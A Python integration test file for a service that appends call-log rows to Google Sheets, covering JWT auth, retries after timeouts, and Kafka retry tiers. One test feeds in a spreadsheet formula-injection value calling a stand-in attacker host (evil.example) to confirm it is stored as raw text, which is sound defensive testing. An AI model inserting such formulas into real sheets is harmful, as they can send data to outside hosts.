"""append_row against a real local Sheets API: the token exchange verifies the service account's JWT
(RS256, google-auth) with the account's public key, values.get reads the id column, values.append
writes the row. A row is appended once even when the attempt that wrote it timed out and was retried."""

from __future__ import annotations

import json
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import rsa

from schemas.events import ActionCompleted, RowAppendRequested
from schemas.topics import dead_letter_topic, retry_topic
from services.common.errors import PermanentError
from services.common.harness import Harness
from services.common.settings import KafkaSettings
from services.dispatcher.handler import Dispatcher
from services.dispatcher.ledger import Ledger
from tests.integration.dispatcher.conftest import Stack
from tests.integration.dispatcher.test_on_broker import by_action, dispatcher_run
from tests.support.apis import Sheets, serve
from tests.support.calls import ended, extracted
from tests.support.flows import route
from tests.support.kafka import create_topics, produce, read_all, unique

EMAIL = "postcall-writer@calls-project.iam.gserviceaccount.com"
AGENT = """
agent: support-line
flows:
  - id: log-call
    actions:
      - type: append_row
        destination: call-log
        spreadsheet_id: 1SheetAbc_123
        sheet: Q1 'Calls'
        columns: ["{{conversation_date}}", "{{customer_name}}", "{{duration_seconds}}", "{{dynamic_variables.note}}"]
"""


def key_pair() -> tuple[str, bytes]:
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    private = key.private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
    ).decode()
    public = key.public_key().public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
    return private, public


def service_account(private_pem: str, token_uri: str) -> str:
    return json.dumps(
        {
            "type": "service_account",
            "project_id": "calls-project",
            "private_key_id": "k-1",
            "private_key": private_pem,
            "client_email": EMAIL,
            "client_id": "1234567890",
            "token_uri": token_uri,
        }
    )


@pytest.fixture
async def sheets() -> AsyncIterator[tuple[Sheets, str, str]]:
    private, public = key_pair()
    api = Sheets(public_key_pem=public, issuer=EMAIL, grids={"Q1 'Calls'": [["Date", "Customer", "Seconds", "Note"]]})
    async with serve(api.app()) as base:
        api.audience = f"{base}/token"
        yield api, base, service_account(private, api.audience)


def destinations(base: str, timeout: float = 5.0) -> str:
    return f"""
destinations:
  - name: call-log
    kind: google_sheets
    url: {base}
    service_account: {{secret_env: SHEETS_KEY}}
    timeout_seconds: {timeout}
    allow_private: true
"""


def append_action(tmp_path: Path, note: str = "callback tomorrow") -> RowAppendRequested:
    [action] = route(tmp_path, AGENT, extracted(ended("c1", dynamic_variables={"note": note})))[1]
    assert isinstance(action, RowAppendRequested)
    return action


async def test_a_row_is_appended_once_even_when_the_attempt_that_wrote_it_timed_out(
    sheets: tuple[Sheets, str, str], stack: Stack, tmp_path: Path
) -> None:
    api, base, key = sheets
    api.slow_appends.append(3.0)  # Google writes the row, the answer comes after our deadline
    action = append_action(tmp_path)
    async with stack(destinations(base, timeout=1.0), {"SHEETS_KEY": key}) as (executors, _):
        harness = Harness(Dispatcher(executors, Ledger(_no_results)).service())
        out = await harness.send(action)
    results = [r.event for r in out.outputs if isinstance(r.event, ActionCompleted)]
    assert [(r.outcome, r.attempts) for r in results] == [("failed", 1), ("delivered", 2)]
    assert "no answer within 1s" in (results[0].error or "")
    assert "already appended" in (results[1].error or "")
    rows = api.grids["Q1 'Calls'"]
    assert len(rows) == 2 and rows[1][-1] == action.action_id  # the header and ONE row
    assert len(api.appends()) == 1
    assert len(api.token_requests) == 1  # the token was cached across the attempts


async def test_the_row_is_written_raw_with_its_id_and_the_updated_range_is_the_result(
    sheets: tuple[Sheets, str, str], stack: Stack, tmp_path: Path
) -> None:
    api, base, key = sheets
    action = append_action(tmp_path, note='=IMPORTXML("https://evil.example", "//a")')
    async with stack(destinations(base), {"SHEETS_KEY": key}) as (executors, _):
        delivery = await executors.run(action)
        again = await executors.run(action)
    assert (delivery.outcome, delivery.result_id) == ("delivered", "'Q1 ''Calls'''!A2:E2")
    assert again.note is not None and "already appended" in again.note
    [_, row] = api.grids["Q1 'Calls'"]
    assert row == ["2026-03-10 08:57:00 UTC", None, 180, '=IMPORTXML("https://evil.example", "//a")', action.action_id]
    append = api.appends()[0]
    assert append.query["valueInputOption"] == ["RAW"]  # a caller's formula stays text
    assert append.raw_path.endswith("/values/%27Q1%20%27%27Calls%27%27%27%21A%3AE:append")
    [token] = api.token_requests
    assert "assertion=" in token.body.decode()


async def test_an_id_column_further_right_leaves_the_columns_between_empty(
    sheets: tuple[Sheets, str, str], stack: Stack, tmp_path: Path
) -> None:
    api, base, key = sheets
    action = append_action(tmp_path).model_copy(update={"id_column": "G"})
    async with stack(destinations(base), {"SHEETS_KEY": key}) as (executors, _):
        await executors.run(action)
    assert api.grids["Q1 'Calls'"][1][4:] == [None, None, action.action_id]
    assert api.requests[0].raw_path.endswith("/values/%27Q1%20%27%27Calls%27%27%27%21G%3AG")


async def test_a_jwt_signed_with_another_key_is_refused_by_the_token_endpoint(
    sheets: tuple[Sheets, str, str], stack: Stack, tmp_path: Path
) -> None:
    api, base, _ = sheets
    other_key = service_account(key_pair()[0], api.audience)
    async with stack(destinations(base), {"SHEETS_KEY": other_key}) as (executors, _):
        with pytest.raises(PermanentError, match=r"token request refused .*HTTP 400 \(invalid_grant\)"):
            await executors.run(append_action(tmp_path))
    assert api.requests == [] and api.grids["Q1 'Calls'"] == [["Date", "Customer", "Seconds", "Note"]]


async def test_on_the_broker_the_retry_tier_finds_the_row_the_timed_out_attempt_wrote(
    kafka: KafkaSettings, sheets: tuple[Sheets, str, str], stack: Stack, tmp_path: Path
) -> None:
    api, base, key = sheets
    api.slow_appends.append(3.0)
    service, topic, results, group = unique("dispatcher"), unique("rows"), unique("results"), unique("g")
    retries = [retry_topic(service, i) for i in range(1, 7)]
    await create_topics(kafka, [topic, results, dead_letter_topic(service), *retries])
    action = append_action(tmp_path)
    async with stack(destinations(base, timeout=1.0), {"SHEETS_KEY": key}) as (executors, _):
        await produce(kafka, topic, [("c1", action)])
        async with dispatcher_run(kafka, executors, service, topic, results, group, "append_row"):
            pass
    outcomes = by_action(await read_all(kafka, results))[action.action_id]
    assert [(v["outcome"], v["attempts"]) for _, v in outcomes] == [("failed", 1), ("delivered", 2)]
    assert len(await read_all(kafka, retries[0])) == 1  # the retry went through the first tier
    assert len(api.appends()) == 1 and len(api.grids["Q1 'Calls'"]) == 2


async def _no_results(topic: str, partition: int, from_offset: int | None) -> AsyncIterator[Any]:
    for _ in ():
        yield
